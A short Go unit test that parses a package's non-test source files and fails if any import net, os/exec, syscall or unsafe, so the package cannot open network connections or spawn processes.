// The package cannot open a connection: it does not import what would.
func TestNoDialing(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	fset := token.NewFileSet()
	for _, f := range files {
		if strings.HasSuffix(f, "_test.go") {
			continue
		}
		af, err := parser.ParseFile(fset, f, nil, parser.ImportsOnly)
		if err != nil {
			t.Fatal(err)
		}
		for _, imp := range af.Imports {
			switch p, _ := strconv.Unquote(imp.Path.Value); {
			case p == "net" || strings.HasPrefix(p, "net/") || p == "os/exec" || p == "syscall" || p == "unsafe":
				t.Errorf("%s imports %s", f, p)
			}
		}
	}
}
